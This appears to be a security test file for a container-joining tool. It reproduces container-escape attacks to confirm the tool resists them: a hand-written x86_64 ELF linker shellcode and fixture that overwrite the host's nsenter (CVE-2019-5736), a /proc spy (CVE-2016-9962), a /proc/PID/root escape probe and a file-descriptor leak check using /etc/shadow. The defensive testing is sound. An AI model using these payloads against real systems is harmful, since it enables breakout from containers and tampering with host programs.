"""What a hostile container may try, each beside the proof that it works against whoever joins carelessly."""

import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from nsview.join.plan import Plan

from .daemons import Docker
from .joining import UNKNOWN_MACHINE, Terminal, docker_exec, driver, enter, environment, plan_for
from .workspace import Workspace, wait_until


def test_no_file_of_the_host_is_open_inside(web: int) -> None:
    leak = os.open("/etc/shadow", os.O_RDONLY)
    directory = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        done = subprocess.run(
            driver(plan_for(web, command=["ls", "-l", "/proc/self/fd"])),
            pass_fds=[leak, directory], env=environment(), capture_output=True, text=True, timeout=30, check=False,
            stdin=subprocess.DEVNULL,
        )  # fmt: skip
    finally:
        os.close(leak)
        os.close(directory)
    shown = [line.split()[8:] for line in done.stdout.splitlines() if "->" in line]
    assert [fields[0] for fields in shown] == ["0", "1", "2"]
    assert all(fields[2].startswith("pipe:") for fields in shown)


_SLOW = """
import time
from nsview import linux
from nsview.join import inside
execute = inside._STEPS["Execute"]
def slow(self, step):
    time.sleep(1)
    execute(self, step)
inside._STEPS["Execute"] = slow
"""
_TRACEABLE = (
    _SLOW
    + """
prctl = linux.prctl
linux.prctl = lambda option, *rest: 0 if option == 4 else prctl(option, *rest)
"""
)
_SPY = """
for try in $(seq 60); do
    for process in /proc/[0-9]*; do
        case $process in /proc/1|/proc/$$) continue;; esac
        grep -q python $process/comm 2>/dev/null || continue
        echo "seen $(readlink $process/exe) $(ls -l $process/fd 2>/dev/null | grep -c -e '->')"
    done
    sleep 0.05
done
"""


@pytest.mark.parametrize(("patch", "open_to_it"), [(_SLOW, False), (_TRACEABLE, True)], ids=["as it is", "traceable"])
def test_the_container_cannot_look_into_the_helper(docker: Docker, web: int, patch: str, open_to_it: bool) -> None:
    """CVE-2016-9962; that the same spy sees a helper that allows it shows that it would."""
    spy = subprocess.Popen(
        ["docker", "-H", f"unix://{docker.address}", "exec", "j-web", "sh", "-c", _SPY],
        stdout=subprocess.PIPE,
        text=True,
    )
    time.sleep(0.3)
    code, _, err = enter(plan_for(web, command=["true"]), patch=patch)
    seen, _ = spy.communicate(timeout=60)
    assert (code, err) == (0, "")
    lines = {tuple(line.split()[1:]) for line in seen.splitlines()}
    assert lines, "the spy saw no helper at all"
    assert any("python" in line[0] for line in lines) == open_to_it
    if not open_to_it:
        assert lines == {("0",)}


# As the dynamic linker of the container: keeps /proc/self/exe open as fd 9 and goes on as `sh /evil/attack`.
_LINKER = (
    bytes.fromhex(
        "488d3d48000000"  # lea rdi, [rip+self]
        "31f6"  # xor esi, esi                  O_RDONLY
        "b802000000"  # mov eax, 2              open
        "0f05"  # syscall
        "89c7"  # mov edi, eax
        "be09000000"  # mov esi, 9
        "b821000000"  # mov eax, 33             dup2
        "0f05"  # syscall
        "488d3d39000000"  # lea rdi, [rip+shell]
        "6a00"  # push 0
        "488d053d000000"  # lea rax, [rip+script]
        "50"  # push rax
        "488d0542000000"  # lea rax, [rip+name]
        "50"  # push rax
        "4889e6"  # mov rsi, rsp
        "31d2"  # xor edx, edx
        "b83b000000"  # mov eax, 59             execve
        "0f05"  # syscall
        "bf7d000000"  # mov edi, 125
        "b8e7000000"  # mov eax, 231            exit_group
        "0f05"  # syscall
    )
    + b"/proc/self/exe\0/bin/busybox\0/evil/attack\0sh\0"
)


def _linker() -> bytes:
    size = 120 + len(_LINKER)
    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 3, 62, 1, 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, 0x1000) + _LINKER


@pytest.fixture
def evil(docker: Docker, workspace: Workspace) -> Iterator[int]:
    """A container that overwrites whoever executes a program of its: CVE-2019-5736."""
    pid = docker.container("j-evil")
    files = workspace.root / "j-evil"
    files.mkdir()
    (files / "linker").write_bytes(_linker())
    (files / "attack").write_text(
        "exec 8</proc/self/fd/9\n"
        "(for n in 1 2 3 4 5 6 7 8 9; do sleep 0.1; echo pwned 2>/dev/null >/proc/self/fd/8; done) &\n"
    )
    (files / "script").write_text("#!/proc/self/exe\n")
    (files / "link").symlink_to("/proc/self/exe")
    for name in ("attack", "script", "linker"):
        (files / name).chmod(0o755)
    docker.run("cp", str(files), "j-evil:/evil")
    docker_exec(docker, "j-evil", "mkdir -p /lib64; cp /evil/linker /lib64/ld-linux-x86-64.so.2")
    yield pid
    docker.remove("j-evil")
    shutil.rmtree(files)


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack is written for x86_64")
@pytest.mark.parametrize("command", ["/evil/link", "/evil/script"])
def test_the_container_cannot_overwrite_the_hosts_program(evil: int, workspace: Workspace, command: str) -> None:
    """CVE-2019-5736: nsenter, a copy of it, is overwritten; the interpreter that carries a plan out is not."""
    nsenter = workspace.root / "nsenter"
    shutil.copy(shutil.which("nsenter") or "nsenter", nsenter)
    subprocess.run([nsenter, "-t", str(evil), "-m", "-p", command], timeout=30, check=False, capture_output=True)
    wait_until(lambda: nsenter.read_bytes() == b"pwned\n", 10, "the attack on nsenter")

    home = Path(tempfile.mkdtemp(prefix="j-python", dir=workspace.root))
    (home / "bin").mkdir()
    python = home / "bin" / "python3"
    shutil.copy(os.path.realpath(sys.executable), python)
    (home / "pyvenv.cfg").write_text(f"home = {Path(sys.base_prefix) / 'bin'}\n")
    before = python.read_bytes()
    for patch in ("", UNKNOWN_MACHINE):
        code, _, err = enter(plan_for(evil, command=[command]), patch=patch, python=str(python))
        assert err == ""
        assert code == 127 or patch  # that copy of Python is one to run, and the linker did
        time.sleep(1.2)
        assert python.read_bytes() == before


def test_without_mnt_the_container_cannot_reach_the_host_through_the_command(docker: Docker, web: int) -> None:
    """A process of the host's files in the container's pid namespace, with its capabilities: /proc/PID/root is then
    the way out, unless the command holds one that the container's do not."""
    reach = "for p in /proc/[0-9]*; do grep -q spied[-]on $p/cmdline && ls -d $p/root/proc/1; done 2>/dev/null; true"
    made = plan_for(web, "pid", "net", command=["sh", "-c", "echo ready; : spied-on; read line"])
    unguarded = msgspec.to_builtins(made)
    for step in unguarded["steps"]:
        step.pop("guard", None)
    for plan_, reached in ((made, False), (msgspec.convert(unguarded, Plan), True)):
        running = subprocess.Popen(
            driver(plan_), stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment(), text=True
        )
        assert running.stdout and running.stdout.readline() == "ready\n"
        found = docker_exec(docker, "j-web", reach)
        running.communicate("\n", timeout=30)
        assert bool(found.strip()) == reached, found


def test_nothing_is_imported_once_inside(web: int) -> None:
    """What a module of the container says must never run with the host's power."""
    patch = """
import sys
from nsview.join import inside
before = set(sys.modules)
execute = inside._STEPS["Execute"]
def told(self, step):
    self.note(f"{sorted(set(sys.modules) - before)} {sys.path} {sys.meta_path}")
    execute(self, step)
inside._STEPS["Execute"] = told
"""
    _, _, err = enter(plan_for(web, command=["true"]), patch=patch)
    assert err == "nsview: note: [] [] []\n"

def test_where_there_is_no_true_devpts_the_pty_is_the_hosts(docker: Docker) -> None:
    """/dev/pts/ptmx of a container may be anything."""
    pid = docker.container("j-false", "--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined")
    opened: list[Terminal] = []
    try:
        docker_exec(docker, "j-false", "umount /dev/pts && mkfifo /dev/pts/ptmx")
        terminal = Terminal(plan_for(pid, command=["sh", "-c", "tty; test -t 0 && echo terminal"]))
        opened.append(terminal)
        assert terminal.expect("same-0") == "not a tty\nterminal\n"
    finally:
        for terminal in opened:
            terminal.close()
        docker.remove("j-false")
